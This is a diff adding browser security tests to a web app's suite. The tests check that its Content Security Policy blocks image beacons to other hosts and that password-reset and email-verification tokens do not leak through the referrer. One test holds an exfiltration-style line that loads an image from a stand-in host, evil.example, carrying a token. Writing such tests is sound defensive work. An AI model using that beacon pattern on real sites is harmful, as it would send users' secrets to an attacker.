@@ -109,6 +109,40 @@ test("S7 Trusted Types are on, and only the named policies exist", async ({ page
   log.problems = log.problems.filter((problem) => !/trusted.?type|require-trusted/i.test(problem));
 });
 
+test("S8, S76 a picture of another host is blocked: a script can send nothing out with one", async ({
+  page,
+  log,
+}) => {
+  await page.goto("/blog");
+  const blocked = await page.evaluate(
+    () =>
+      new Promise<string>((resolve) => {
+        document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
+          resolve(`${effectiveDirective} ${blockedURI}`);
+        });
+        new Image().src = "https://evil.example/collect?token=secret";
+      }),
+  );
+  expect(blocked).toMatch(/^img-src https:\/\/evil\.example/);
+  log.expectProblem(/img-src/);
+});
+
+for (const path of ["/reset-password", "/verify-email"]) {
+  test(`S29 the token of ${path} leaves the address before anything of the site has run`, async ({
+    page,
+    log,
+  }) => {
+    const referrers: string[] = [];
+    page.on("request", (request) => referrers.push(request.headers().referer ?? ""));
+    await page.route("**/releases/**", (route) => route.abort());
+    await page.goto(`${path}?token=secret`, { waitUntil: "commit" });
+    await expect(page).toHaveURL(path);
+    await page.waitForLoadState();
+    expect(referrers.filter((referrer) => referrer.includes("secret"))).toEqual([]);
+    log.expectProblem(/ERR_FAILED/);
+  });
+}
+
 test("S10 a role edited in the browser's storage shows nothing of the administration", async ({
   page,
   account,
